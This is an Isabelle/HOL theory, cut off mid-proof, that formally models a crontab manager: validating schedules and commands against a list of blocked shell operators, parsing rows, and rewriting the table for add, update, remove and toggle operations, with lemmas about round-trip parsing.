(* ===== verification/Cron.thy ===== *)
theory Cron
  imports Effects
begin

text \<open>
  The crontab manager, \<open>internal/cron\<close>: parsing and validation of crontab rows
  (\<open>cron_parse.go\<close>), and the Linux manager that reads the table with \<open>crontab -l\<close> and installs a
  new one with \<open>crontab -\<close> (\<open>cron_linux.go\<close>). SHA-256 is a parameter: \<open>sha\<close> maps a text to the
  hex form of the first six bytes of its digest. Each operation gets what \<open>crontab -l\<close> answered and
  how \<open>crontab -\<close> answers; its second result is the text it piped to \<open>crontab -\<close>, if it did.
\<close>

datatype cron_error =
    CommandEmpty
  | BlockedOperator string
  | NotAbsolute
  | FieldCount nat
  | InvalidField string
  | IdRequired
  | NotFound string
  | DuplicateEntry
  | ReadFailed exec_error string
  | InstallFailed exec_error string

record entry =
  en_ID :: string
  en_Schedule :: string
  en_Command :: string
  en_Enabled :: bool
  en_Name :: string
  en_Description :: string

record status =
  cs_Available :: bool
  cs_Running :: bool
  cs_Daemon :: string
  cs_Reason :: string

record add_request =
  ar_Schedule :: string
  ar_Command :: string
  ar_Name :: string
  ar_Description :: string

record update_request =
  ur_ID :: string
  ur_Schedule :: "string option"
  ur_Command :: "string option"
  ur_Name :: "string option"

definition entryID :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "entryID sha schedule command = ''cron_'' @ sha (schedule @ [CHR 0x00] @ command)"

subsection \<open>Validation and parsing\<close>

definition blockedShellPatterns :: "string list" where
  "blockedShellPatterns =
     ['';'', ''&&'', ''||'', ''|'', [CHR 0x60], ''$('', ''>'', ''<'', [CHR 0x0A], [CHR 0x0D]]"

definition validateCommand :: "string \<Rightarrow> cron_error + unit" where
  "validateCommand cmd0 =
     (let cmd = trim_space cmd0 in
      if cmd = [] then Inl CommandEmpty
      else (case find (contains cmd) blockedShellPatterns of
          Some p \<Rightarrow> Inl (BlockedOperator p)
        | None \<Rightarrow> if prefix ''/'' (hd (fields_of cmd)) then Inr () else Inl NotAbsolute))"

definition schedule_char :: "char \<Rightarrow> bool" where
  "schedule_char c \<longleftrightarrow> is_digit c \<or> c \<in> set ''*,-/''"

definition scheduleRegex :: "string \<Rightarrow> bool" where
  "scheduleRegex s \<longleftrightarrow> s \<noteq> [] \<and> list_all schedule_char s"

definition validateSchedule :: "string \<Rightarrow> cron_error + unit" where
  "validateSchedule schedule =
     (let parts = fields_of schedule in
      if length parts \<noteq> 5 then Inl (FieldCount (length parts))
      else (case find (\<lambda>p. \<not> scheduleRegex p) parts of
          Some p \<Rightarrow> Inl (InvalidField p)
        | None \<Rightarrow> Inr ()))"

record parsed_line =
  pl_Raw :: string
  pl_Schedule :: string
  pl_Command :: string
  pl_Enabled :: bool
  pl_IsEntry :: bool

definition parseLine :: "string \<Rightarrow> parsed_line" where
  "parseLine line =
     (let out = \<lparr>pl_Raw = line, pl_Schedule = [], pl_Command = [], pl_Enabled = False, pl_IsEntry = False\<rparr>;
          body0 = trim_space line
      in if body0 = [] then out
         else (let enabled = (\<not> prefix ''#'' body0);
                   body = (if prefix ''#'' body0 then trim_space (trim_prefix body0 ''#'') else body0);
                   fs = fields_of body
               in if length fs < 6 then out
                  else if \<not> is_ok (validateSchedule (join '' '' (take 5 fs))) then out
                  else out\<lparr>pl_IsEntry := True, pl_Schedule := join '' '' (take 5 fs),
                           pl_Command := join '' '' (drop 5 fs), pl_Enabled := enabled\<rparr>))"

definition describeSchedule :: "string \<Rightarrow> string" where
  "describeSchedule schedule =
     (case map_of
        [(''* * * * *'', ''Every minute''), (''*/5 * * * *'', ''Every 5 minutes''),
         (''*/15 * * * *'', ''Every 15 minutes''), (''*/30 * * * *'', ''Every 30 minutes''),
         (''0 * * * *'', ''Hourly''), (''0 0 * * *'', ''Daily at midnight''),
         (''0 12 * * *'', ''Daily at noon''), (''0 0 * * 0'', ''Weekly (Sunday)''),
         (''0 0 1 * *'', ''Monthly (1st)''), (''0 0 1 1 *'', ''Yearly (Jan 1)'')] schedule of
        Some d \<Rightarrow> d
      | None \<Rightarrow> schedule)"

text \<open>The row is an entry with this id.\<close>

definition row_is :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "row_is sha i line \<longleftrightarrow>
     (let p = parseLine line in pl_IsEntry p \<and> entryID sha (pl_Schedule p) (pl_Command p) = i)"

subsection \<open>The rewrite behind an update\<close>

record update_scan =
  us_targetIdx :: "nat option"
  us_nameCommentIdx :: "nat option"
  us_oldSchedule :: string
  us_oldCommand :: string
  us_oldName :: string
  us_oldEnabled :: bool
  us_pendingName :: string
  us_pendingNameIdx :: "nat option"

definition scan_init :: update_scan where
  "scan_init = \<lparr>us_targetIdx = None, us_nameCommentIdx = None, us_oldSchedule = [], us_oldCommand = [],
     us_oldName = [], us_oldEnabled = True, us_pendingName = [], us_pendingNameIdx = None\<rparr>"

definition name_marker :: string where
  "name_marker = ''# ServerKit:''"

definition scan_row :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> nat \<times> string \<Rightarrow> update_scan \<Rightarrow> update_scan" where
  "scan_row sha i ir st =
     (let trimmed = trim_space (snd ir) in
      if prefix name_marker trimmed
      then st\<lparr>us_pendingName := trim_space (trim_prefix trimmed name_marker), us_pendingNameIdx := Some (fst ir)\<rparr>
      else (let p = parseLine (snd ir);
                st1 = (if row_is sha i (snd ir)
                       then st\<lparr>us_targetIdx := Some (fst ir), us_oldSchedule := pl_Schedule p,
                               us_oldCommand := pl_Command p, us_oldEnabled := pl_Enabled p,
                               us_oldName := us_pendingName st, us_nameCommentIdx := us_pendingNameIdx st\<rparr>
                       else st)
            in st1\<lparr>us_pendingName := [], us_pendingNameIdx := None\<rparr>))"

definition scan_rows :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> update_scan" where
  "scan_rows sha i lines = fold (scan_row sha i) (enumerate 0 lines) scan_init"

definition opt_trim :: "string option \<Rightarrow> string \<Rightarrow> string" where
  "opt_trim new old = (case new of None \<Rightarrow> old | Some s \<Rightarrow> trim_space s)"

definition name_rows :: "string \<Rightarrow> string list" where
  "name_rows nm = (if nm = [] then [] else [''# ServerKit: '' @ nm])"

definition entry_row :: "bool \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "entry_row enabled s c = (if enabled then [] else ''# '') @ s @ '' '' @ c"

definition applyUpdate :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> update_request \<Rightarrow> cron_error + string \<times> entry" where
  "applyUpdate sha content req =
     (if ur_ID req = [] then Inl IdRequired
      else (let lines = split_on (CHR 0x0A) content;
                st = scan_rows sha (ur_ID req) lines
            in case us_targetIdx st of
                None \<Rightarrow> Inl (NotFound (ur_ID req))
              | Some targetIdx \<Rightarrow>
                  (let newSchedule = opt_trim (ur_Schedule req) (us_oldSchedule st);
                       newCommand = opt_trim (ur_Command req) (us_oldCommand st);
                       newName = opt_trim (ur_Name req) (us_oldName st);
                       newID = entryID sha newSchedule newCommand
                   in rbind (validateSchedule newSchedule) (\<lambda>_.
                      rbind (validateCommand newCommand) (\<lambda>_.
                        if newID \<noteq> ur_ID req \<and> list_ex (row_is sha newID) lines then Inl DuplicateEntry
                        else (let out = concat (map (\<lambda>(k, raw).
                                  if us_nameCommentIdx st = Some k then []
                                  else if k = targetIdx
                                    then unlines (name_rows newName @
                                           [entry_row (us_oldEnabled st) newSchedule newCommand])
                                  else unlines [raw]) (enumerate 0 lines))
                              in Inr (trim_right_char (CHR 0x0A) out @ [CHR 0x0A],
                                   \<lparr>en_ID = newID, en_Schedule = newSchedule, en_Command = newCommand,
                                    en_Enabled = us_oldEnabled st, en_Name = newName,
                                    en_Description = describeSchedule newSchedule\<rparr>)))))))"

subsection \<open>The manager\<close>

definition CronStatus :: "bool \<Rightarrow> host \<Rightarrow> trace \<Rightarrow> status \<times> trace" where
  "CronStatus crontab_found h t =
     (if \<not> crontab_found
      then (\<lparr>cs_Available = False, cs_Running = False, cs_Daemon = [],
             cs_Reason = ''crontab not installed on host''\<rparr>, t)
      else (let probe = (\<lambda>name (found, t).
                  case found of
                    Some d \<Rightarrow> (found, t)
                  | None \<Rightarrow>
                     (let (r, t') = exec_cmd h (Run ''systemctl'' [''is-active'', name]) t
                      in (if trim_space (rr_out r) = ''active'' then Some name else None, t')));
                (found, t') = fold probe [''cron'', ''crond'', ''cronie''] (None, t)
            in (\<lparr>cs_Available = True, cs_Running = (found \<noteq> None),
                 cs_Daemon = (case found of None \<Rightarrow> [] | Some d \<Rightarrow> d), cs_Reason = []\<rparr>, t')))"

definition readCrontab :: "run_result \<Rightarrow> cron_error + string" where
  "readCrontab r =
     (case rr_err r of
        None \<Rightarrow> Inr (rr_out r)
      | Some e \<Rightarrow> if contains (rr_stderr r) ''no crontab for'' then Inr []
                  else Inl (ReadFailed e (trim_space (rr_stderr r))))"

definition writeCrontab :: "(string \<Rightarrow> run_result) \<Rightarrow> string \<Rightarrow> cron_error + unit" where
  "writeCrontab wr content =
     (case rr_err (wr content) of
        None \<Rightarrow> Inr ()
      | Some e \<Rightarrow> Inl (InstallFailed e (trim_space (rr_stderr (wr content)))))"

definition row_entry :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> entry list" where
  "row_entry sha line =
     (let p = parseLine line in
      if \<not> pl_IsEntry p then []
      else [\<lparr>en_ID = entryID sha (pl_Schedule p) (pl_Command p), en_Schedule = pl_Schedule p,
             en_Command = pl_Command p, en_Enabled = pl_Enabled p, en_Name = [],
             en_Description = describeSchedule (pl_Schedule p)\<rparr>])"

definition entries :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> entry list" where
  "entries sha content = concat (map (row_entry sha) (scan_lines content))"

definition CronList :: "(string \<Rightarrow> string) \<Rightarrow> run_result \<Rightarrow> cron_error + entry list" where
  "CronList sha rd = rbind (readCrontab rd) (\<lambda>content. Inr (entries sha content))"

definition appended_table :: "string \<Rightarrow> add_request \<Rightarrow> string" where
  "appended_table content req =
     (let b = trim_right_char (CHR 0x0A) content
      in b @ (if b = [] then [] else [CHR 0x0A]) @
         unlines (name_rows (ar_Name req) @ [ar_Schedule req @ '' '' @ ar_Command req]))"

definition CronAdd :: "(string \<Rightarrow> string) \<Rightarrow> add_request \<Rightarrow> run_result \<Rightarrow> (string \<Rightarrow> run_result) \<Rightarrow>
    (cron_error + entry) \<times> string option" where
  "CronAdd sha req rd wr =
     (case rbind (validateSchedule (ar_Schedule req)) (\<lambda>_. validateCommand (ar_Command req)) of
        Inl e \<Rightarrow> (Inl e, None)
      | Inr _ \<Rightarrow>
          (let i = entryID sha (ar_Schedule req) (ar_Command req) in
           case readCrontab rd of
             Inl e \<Rightarrow> (Inl e, None)
           | Inr content \<Rightarrow>
               if list_ex (row_is sha i) (scan_lines content) then (Inl DuplicateEntry, None)
               else (let new = appended_table content req in
                     (rbind (writeCrontab wr new) (\<lambda>_.
                        Inr \<lparr>en_ID = i, en_Schedule = ar_Schedule req, en_Command = ar_Command req,
                             en_Enabled = True, en_Name = ar_Name req,
                             en_Description = describeSchedule (ar_Schedule req)\<rparr>), Some new))))"

definition CronUpdate :: "(string \<Rightarrow> string) \<Rightarrow> update_request \<Rightarrow> run_result \<Rightarrow> (string \<Rightarrow> run_result) \<Rightarrow>
    (cron_error + entry) \<times> string option" where
  "CronUpdate sha req rd wr =
     (case rbind (readCrontab rd) (\<lambda>content. applyUpdate sha content req) of
        Inl e \<Rightarrow> (Inl e, None)
      | Inr (new, e) \<Rightarrow> (rbind (writeCrontab wr new) (\<lambda>_. Inr e), Some new))"

definition CronRemove :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> run_result \<Rightarrow> (string \<Rightarrow> run_result) \<Rightarrow>
    (cron_error + unit) \<times> string option" where
  "CronRemove sha i rd wr =
     (case readCrontab rd of
        Inl e \<Rightarrow> (Inl e, None)
      | Inr content \<Rightarrow>
          (let rows = scan_lines content;
               kept = filter (\<lambda>line. \<not> row_is sha i line) rows
           in if \<not> list_ex (row_is sha i) rows then (Inl (NotFound i), None)
              else (let new = trim_right_char (CHR 0x0A) (unlines kept) @ [CHR 0x0A]
                    in (writeCrontab wr new, Some new))))"

definition toggle_row :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> string" where
  "toggle_row sha i enabled line =
     (if row_is sha i line
      then (let p = parseLine line in entry_row enabled (pl_Schedule p) (pl_Command p))
      else line)"

definition CronToggle :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> run_result \<Rightarrow> (string \<Rightarrow> run_result) \<Rightarrow>
    (cron_error + unit) \<times> string option" where
  "CronToggle sha i enabled rd wr =
     (case readCrontab rd of
        Inl e \<Rightarrow> (Inl e, None)
      | Inr content \<Rightarrow>
          (let rows = scan_lines content
           in if \<not> list_ex (row_is sha i) rows then (Inl (NotFound i), None)
              else (let new = trim_right_char (CHR 0x0A) (unlines (map (toggle_row sha i enabled) rows)) @ [CHR 0x0A]
                    in (writeCrontab wr new, Some new))))"

subsection \<open>Formatting and parsing\<close>

text \<open>A schedule or a command written with single spaces between its fields.\<close>

definition normalised :: "string \<Rightarrow> bool" where
  "normalised s \<longleftrightarrow> s = join '' '' (fields_of s)"

lemma validateSchedule_ok:
  "validateSchedule s = Inr u \<longleftrightarrow> length (fields_of s) = 5 \<and> list_all scheduleRegex (fields_of s)"
  by (auto simp: validateSchedule_def Let_def find_None_iff list_all_iff
      split: option.splits if_splits dest: find_Some_in)

lemma validateCommand_ok:
  "validateCommand c = Inr u \<longleftrightarrow>
     trim_space c \<noteq> [] \<and> (\<forall>p \<in> set blockedShellPatterns. \<not> contains (trim_space c) p) \<and>
     prefix ''/'' (hd (fields_of (trim_space c)))"
  by (auto simp: validateCommand_def Let_def find_None_iff split: option.splits if_splits dest: find_Some_in)

lemma validateCommand_ok_chars:
  assumes "validateCommand c = Inr u"
  shows "set (trim_space c) \<inter> {CHR '';'', CHR ''|'', CHR 0x60, CHR ''<'', CHR ''>'', CHR 0x0A, CHR 0x0D} = {}"
  using assms unfolding validateCommand_ok blockedShellPatterns_def by simp

lemma schedule_words:
  assumes "validateSchedule s = Inr u"
  shows "fields_of s \<noteq> []" "length (fields_of s) = 5"
    "\<forall>f \<in> set (fields_of s). nospace f \<and> f \<noteq> [] \<and> list_all schedule_char f"
  using assms join_fields [of s]
  by (auto simp: validateSchedule_ok list_all_iff scheduleRegex_def)

lemma schedule_head:
  assumes "validateSchedule s = Inr u" "normalised s"
  shows "s \<noteq> []" "hd s \<noteq> CHR ''#''"
proof -
  obtain f fs where f: "fields_of s = f # fs" using schedule_words(1) [OF assms(1)] by (cases "fields_of s") auto
  then have *: "f \<noteq> []" "list_all schedule_char f" using schedule_words(3) [OF assms(1)] by auto
  have s: "s = (if fs = [] then f else f @ '' '' @ join '' '' fs)"
    using assms(2) f by (auto simp: normalised_def join_Cons)
  show "s \<noteq> []" using * by (subst s) simp
  have "hd s = hd f" using * by (subst s) simp
  moreover have "schedule_char (hd f)" using * by (cases f) auto
  ultimately show "hd s \<noteq> CHR ''#''" by (auto simp: schedule_char_def is_digit_def)
qed

text \<open>The formatted row is read back as the entry it was made from.\<close>

lemma parse_entry_row:
  assumes s: "validateSchedule s = Inr u" "normalised s" and c: "fields_of c \<noteq> []" "normalised c"
  shows "parseLine (entry_row en s c) =
    \<lparr>pl_Raw = entry_row en s c, pl_Schedule = s, pl_Command = c, pl_Enabled = en, pl_IsEntry = True\<rparr>"
proof -
  let ?ws = "fields_of s @ fields_of c"
  let ?row = "s @ '' '' @ c"
  have row: "?row = join '' '' ?ws"
    using s(2) c schedule_words(1) [OF s(1)] by (simp add: join_append normalised_def)
  have words: "\<forall>f \<in> set ?ws. nospace f \<and> f \<noteq> []" using join_fields by auto
  have trim: "trim_space ?row = ?row" unfolding row by (rule trim_space_join [OF words])
  have fl: "fields_of ?row = ?ws" unfolding row by (rule fields_join [OF words])
  have hd: "s \<noteq> []" "hd s \<noteq> CHR ''#''" using schedule_head [OF s] by auto
  have take: "take 5 ?ws = fields_of s" "drop 5 ?ws = fields_of c" "\<not> length ?ws < 6"
    using schedule_words(2) [OF s(1)] c(1) by (auto simp: Suc_le_eq)
  have js: "join '' '' (fields_of s) = s" "join '' '' (fields_of c) = c"
    using s(2) c(2) by (simp_all add: normalised_def)
  show ?thesis
  proof (cases en)
    case True
    have "\<not> prefix ''#'' ?row" "?row \<noteq> []" using hd by (cases s; simp)+
    then show ?thesis
      using True trim fl take js s(1) by (simp add: parseLine_def entry_row_def Let_def)
  next
    case False
    have e: "entry_row en s c = CHR ''#'' # CHR 0x20 # ?row" using False by (simp add: entry_row_def)
    have "\<forall>f \<in> set (''#'' # ?ws). nospace f \<and> f \<noteq> []"
      using words by (simp add: ws_len_def space_encodings_def)
    then have "trim_space (join '' '' (''#'' # ?ws)) = join '' '' (''#'' # ?ws)" by (rule trim_space_join)
    moreover have "join '' '' (''#'' # ?ws) = CHR ''#'' # CHR 0x20 # ?row"
      using c(1) row by (simp add: join_Cons)
    ultimately have t: "trim_space (entry_row en s c) = CHR ''#'' # CHR 0x20 # ?row" by (simp add: e)
    show ?thesis
      using False t trim fl take js s(1)
      by (simp add: parseLine_def Let_def trim_prefix_def trim_space_Space)
  qed
qed

lemma row_is_entry_row:
  assumes "validateSchedule s = Inr u" "normalised s" "fields_of c \<noteq> []" "normalised c"
  shows "row_is sha i (entry_row en s c) \<longleftrightarrow> entryID sha s c = i"
  by (simp add: row_is_def parse_entry_row [OF assms])

text \<open>Every parsed entry is normalised, has a valid schedule and a command.\<close>

lemma parseLine_entry:
  assumes "pl_IsEntry (parseLine l)"
  shows "validateSchedule (pl_Schedule (parseLine l)) = Inr ()" "normalised (pl_Schedule (parseLine l))"
    "fields_of (pl_Command (parseLine l)) \<noteq> []" "normalised (pl_Command (parseLine l))"
proof -
  obtain fs where fs: "\<forall>f \<in> set fs. nospace f \<and> f \<noteq> []" "6 \<le> length fs"
      "is_ok (validateSchedule (join '' '' (take 5 fs)))"
      "pl_Schedule (parseLine l) = join '' '' (take 5 fs)" "pl_Command (parseLine l) = join '' '' (drop 5 fs)"
    using assms join_fields
    by (auto simp: parseLine_def Let_def not_less split: if_splits)
  have words: "\<forall>f \<in> set (take 5 fs). nospace f \<and> f \<noteq> []" "\<forall>f \<in> set (drop 5 fs). nospace f \<and> f \<noteq> []"
    using fs(1) by (auto dest: in_set_takeD in_set_dropD)
  note [simp] = fields_join [OF words(1)] fields_join [OF words(2)]
  show "validateSchedule (pl_Schedule (parseLine l)) = Inr ()"
    using fs(3,4) by (cases "validateSchedule (join '' '' (take 5 fs))") auto
  show "normalised (pl_Schedule (parseLine l))" "normalised (pl_Command (parseLine l))"
      "fields_of (pl_Command (parseLine l)) \<noteq> []"
    using fs(2,4,5) by (simp_all add: normalised_def)
qed

subsection \<open>Rows that are no entries\<close>

lemma prefix_trim_right: "prefix (trim_right s) s"
proof (induction s rule: trim_right.induct)
  case (1 s)
  then show ?case by (subst trim_right.simps) (auto intro: prefix_order.trans take_is_prefix)
qed

lemma ServerKit_not_entry:
  assumes "prefix name_marker (trim_space l)"
  shows "\<not> pl_IsEntry (parseLine l)"
proof -
  obtain r where r: "trim_space l = name_marker @ r" using assms by (auto simp: prefix_def)
  let ?b = "trim_space (trim_prefix (trim_space l) ''#'')"
  have "?b = trim_space (''ServerKit:'' @ r)"
    by (simp add: r name_marker_def trim_prefix_def trim_space_Space)
  moreover have "ws_len (''ServerKit:'' @ r) = 0" by (simp add: ws_len_def space_encodings_def)
  ultimately have b: "prefix ?b (''ServerKit:'' @ r)"
    by (simp only: trim_space_right prefix_trim_right)
  show ?thesis
  proof (cases "?b = []")
    case True
    then show ?thesis using r by (simp add: parseLine_def Let_def name_marker_def)
  next
    case False
    then have hd_b: "hd ?b = CHR ''S''" using b by (cases ?b) auto
    note h = hd_fields [OF False ws_len_trim_space]
    have "\<not> is_ok (validateSchedule (join '' '' (take 5 (fields_of ?b))))"
    proof -
      have words: "\<forall>f \<in> set (take 5 (fields_of ?b)). nospace f \<and> f \<noteq> []"
        using join_fields by (auto dest: in_set_takeD)
      have "hd (fields_of ?b) \<in> set (take 5 (fields_of ?b))"
        using h(1) by (cases "fields_of ?b") auto
      moreover have "\<not> scheduleRegex (hd (fields_of ?b))"
        using h hd_b by (cases "hd (fields_of ?b)") (auto simp: scheduleRegex_def schedule_char_def is_digit_def)
      ultimately have "validateSchedule (join '' '' (take 5 (fields_of ?b))) \<noteq> Inr ()"
        unfolding validateSchedule_ok fields_join [OF words] by (auto simp: list_all_iff)
      then show ?thesis by (cases "validateSchedule (join '' '' (take 5 (fields_of ?b)))") auto
    qed
    then show ?thesis using r by (simp add: parseLine_def Let_def name_marker_def)
  qed
qed

lemma blank_not_entry [simp]: "\<not> pl_IsEntry (parseLine [])"
  by (simp add: parseLine_def Let_def)

lemma name_row_not_entry: "\<not> pl_IsEntry (parseLine (''# ServerKit: '' @ nm))"
proof (rule ServerKit_not_entry)
  let ?l = "''# ServerKit: '' @ nm"
  have "ws_len ?l = 0" by (simp add: ws_len_def space_encodings_def)
  then have t: "trim_space ?l = trim_right ?l" by (rule trim_space_right)
  have "\<forall>w \<in> set space_encodings. CHR '':'' \<notin> set w" by (simp add: space_encodings_def)
  from trim_right_keep [OF this, of "''# ServerKit''" "CHR 0x20 # nm"]
  obtain r where "trim_right ?l = ''# ServerKit'' @ CHR '':'' # r" by auto
  then show "prefix name_marker (trim_space ?l)"
    unfolding t by (simp add: name_marker_def)
qed

text \<open>What the entries of a table are, in terms of its rows.\<close>

lemma row_entry_none: "\<not> pl_IsEntry (parseLine l) \<Longrightarrow> row_entry sha l = []"
  by (simp add: row_entry_def Let_def)

lemma row_is_iff: "row_is sha i l \<longleftrightarrow> (\<exists>e \<in> set (row_entry sha l). en_ID e = i)"
  by (auto simp: row_is_def row_entry_def Let_def)

lemma row_entry_entry_row:
  assumes "validateSchedule s = Inr u" "normalised s" "fields_of c \<noteq> []" "normalised c"
  shows "row_entry sha (entry_row en s c) = [\<lparr>en_ID = entryID sha s c, en_Schedule = s, en_Command = c,
    en_Enabled = en, en_Name = [], en_Description = describeSchedule s\<rparr>]"
  by (simp add: row_entry_def Let_def parse_entry_row [OF assms])

definition rows_entries :: "(string \<Rightarrow> string) \<Rightarrow> string list \<Rightarrow> entry list" where
  "rows_entries sha rows = concat (map (row_entry sha) rows)"

lemma rows_entries_simps [simp]:
  "rows_entries sha [] = []" "rows_entries sha (l # ls) = row_entry sha l @ rows_entries sha ls"
  "rows_entries sha (xs @ ys) = rows_entries sha xs @ rows_entries sha ys"
  by (simp_all add: rows_entries_def)

lemma rows_entries_blank [simp]: "rows_entries sha (replicate n []) = []"
  by (induction n) (simp_all add: row_entry_none)

lemma rows_entries_name [simp]: "rows_entries sha (name_rows nm) = []"
  by (simp only: name_rows_def rows_entries_simps row_entry_none [OF name_row_not_entry] append_Nil2 split: if_split) simp

lemma rows_entries_raw: "rows_entries sha (raw_lines t) = rows_entries sha (split_on (CHR 0x0A) t)"
proof (cases "last (split_on (CHR 0x0A) t) = []")
  case True
  have "split_on (CHR 0x0A) t = butlast (split_on (CHR 0x0A) t) @ [last (split_on (CHR 0x0A) t)]" by simp
  then have "rows_entries sha (split_on (CHR 0x0A) t) =
      rows_entries sha (butlast (split_on (CHR 0x0A) t)) @ row_entry sha (last (split_on (CHR 0x0A) t))"
    by (metis rows_entries_simps append_Nil2)
  then show ?thesis using True by (simp add: raw_lines_def Let_def row_entry_none)
qed (simp add: raw_lines_def Let_def)

lemma entries_rows: "entries sha t = rows_entries sha (scan_lines t)"
  by (simp add: entries_def rows_entries_def)

text \<open>The scanner reads the whole table: no row of 64 KiB, no carriage return before a newline.\<close>

definition scannable :: "string \<Rightarrow> bool" where
  "scannable t \<longleftrightarrow> scan_lines t = raw_lines t"

lemma entries_scannable: "scannable t \<Longrightarrow> entries sha t = rows_entries sha (split_on (CHR 0x0A) t)"
  by (simp add: entries_def scannable_def rows_entries_def [symmetric] rows_entries_raw)

lemma rows_entries_trim:
  "rows_entries sha (split_on (CHR 0x0A) (trim_right_char (CHR 0x0A) t)) = rows_entries sha (split_on (CHR 0x0A) t)"
proof -
  obtain n where n: "t = trim_right_char (CHR 0x0A) t @ replicate n (CHR 0x0A)"
    using trim_right_char_decomp by blast
  show ?thesis by (subst (2) n) (simp only: split_on_blanks rows_entries_simps rows_entries_blank append_Nil2)
qed

lemma rows_entries_unlines:
  assumes "\<forall>l \<in> set ls. CHR 0x0A \<notin> set l"
  shows "rows_entries sha (split_on (CHR 0x0A) (trim_right_char (CHR 0x0A) (unlines ls) @ [CHR 0x0A])) = rows_entries sha ls"
  using assms
  by (simp only: split_on_sep rows_entries_simps rows_entries_trim split_on_unlines)
    (simp add: row_entry_none)

subsection \<open>Operations on the table\<close>

lemma validateCommand_fields:
  assumes "validateCommand c = Inr u" "normalised c"
  shows "fields_of c \<noteq> []" "trim_space c = c"
proof -
  have "trim_space (join '' '' (fields_of c)) = join '' '' (fields_of c)"
    by (rule trim_space_join [OF join_fields])
  then show t: "trim_space c = c" using assms(2) unfolding normalised_def by (rule subst [OF sym, rotated])
  then have "c \<noteq> []" using assms(1) by (simp add: validateCommand_ok)
  with assms(2) show "fields_of c \<noteq> []" by (auto simp: normalised_def)
qed

lemma normalised_no_newline:
  assumes "normalised s"
  shows "CHR 0x0A \<notin> set s"
proof
  assume "CHR 0x0A \<in> set s"
  then have "CHR 0x0A \<in> set (join '' '' (fields_of s))" using assms by (simp add: normalised_def)
  then have "CHR 0x0A \<in> set '' '' \<union> \<Union> (set ` set (fields_of s))" by (rule set_mp [OF set_join])
  then show False using join_fields [of s] nospace_no_newline by auto
qed

lemma entry_row_no_newline:
  "normalised s \<Longrightarrow> normalised c \<Longrightarrow> CHR 0x0A \<notin> set (entry_row en s c)"
  using normalised_no_newline [of s] normalised_no_newline [of c] by (simp add: entry_row_def)

lemma no_match_entries:
  "\<not> list_ex (row_is sha i) rows \<longleftrightarrow> (\<forall>e \<in> set (rows_entries sha rows). en_ID e \<noteq> i)"
  by (induction rows) (auto simp: row_is_iff)

lemma filter_entries:
  "rows_entries sha (filter (\<lambda>l. \<not> row_is sha i l) rows) = filter (\<lambda>e. en_ID e \<noteq> i) (rows_entries sha rows)"
proof (induction rows)
  case (Cons l ls)
  show ?case
  proof (cases "pl_IsEntry (parseLine l)")
    case True
    then obtain e where "row_entry sha l = [e]" by (simp add: row_entry_def Let_def)
    with Cons show ?thesis by (simp add: row_is_iff)
  next
    case False
    with Cons show ?thesis by (simp add: row_entry_none row_is_def Let_def)
  qed
qed simp

lemma toggle_entries:
  "rows_entries sha (map (toggle_row sha i en) rows) =
     map (\<lambda>e. if en_ID e = i then e\<lparr>en_Enabled := en\<rparr> else e) (rows_entries sha rows)"
proof (induction rows)
  case (Cons l ls)
  show ?case
  proof (cases "pl_IsEntry (parseLine l)")
    case True
    note p = parseLine_entry [OF True]
    have "row_entry sha (toggle_row sha i en l) =
        map (\<lambda>e. if en_ID e = i then e\<lparr>en_Enabled := en\<rparr> else e) (row_entry sha l)"
      using True by (simp add: toggle_row_def row_is_def Let_def row_entry_entry_row [OF p] row_entry_def [of sha l])
    with Cons show ?thesis by simp
  next
    case False
    with Cons show ?thesis by (simp add: row_entry_none toggle_row_def row_is_def Let_def)
  qed
qed simp

lemma scan_lines_no_newline: "scannable t \<Longrightarrow> l \<in> set (scan_lines t) \<Longrightarrow> CHR 0x0A \<notin> set l"
  using split_on_no_sep [of l "CHR 0x0A" t]
  by (auto simp: scannable_def raw_lines_def Let_def split: if_splits dest: in_set_butlastD)

lemma toggle_row_no_newline:
  assumes "CHR 0x0A \<notin> set l"
  shows "CHR 0x0A \<notin> set (toggle_row sha i en l)"
  using assms parseLine_entry(2,4) [of l] entry_row_no_newline
  by (simp add: toggle_row_def row_is_def Let_def)

lemma rewritten_entries:
  assumes "scannable t" "scannable (trim_right_char (CHR 0x0A) (unlines ls) @ [CHR 0x0A])"
    and "\<forall>l \<in> set ls. CHR 0x0A \<notin> set l"
  shows "entries sha (trim_right_char (CHR 0x0A) (unlines ls) @ [CHR 0x0A]) = rows_entries sha ls"
  using assms by (simp only: entries_scannable rows_entries_unlines)

lemma appended_entries:
  assumes "scannable t" "scannable (appended_table t req)" "CHR 0x0A \<notin> set (ar_Name req)"
    and "validateSchedule (ar_Schedule req) = Inr u" "validateCommand (ar_Command req) = Inr v"
    and "normalised (ar_Schedule req)" "normalised (ar_Command req)"
  shows "entries sha (appended_table t req) = entries sha t @
    row_entry sha (entry_row True (ar_Schedule req) (ar_Command req))"
proof -
  let ?b = "trim_right_char (CHR 0x0A) t"
  let ?rows = "name_rows (ar_Name req) @ [entry_row True (ar_Schedule req) (ar_Command req)]"
  have "\<forall>l \<in> set ?rows. CHR 0x0A \<notin> set l"
    using assms(3) entry_row_no_newline [OF assms(6,7)] by (auto simp: name_rows_def)
  then have s: "split_on (CHR 0x0A) (unlines ?rows) = ?rows @ [[]]" by (rule split_on_unlines)
  have t: "rows_entries sha (split_on (CHR 0x0A) ?b) = entries sha t"
    by (simp only: rows_entries_trim entries_scannable [OF assms(1)])
  have new: "appended_table t req = ?b @ (if ?b = [] then [] else [CHR 0x0A]) @ unlines ?rows"
    by (simp add: appended_table_def Let_def entry_row_def)
  have "rows_entries sha (split_on (CHR 0x0A) (appended_table t req)) =
      rows_entries sha (split_on (CHR 0x0A) ?b) @ rows_entries sha (?rows @ [[]])"
  proof (cases "?b = []")
    case True
    then show ?thesis using s unfolding new by (simp add: row_entry_none)
  next
    case False
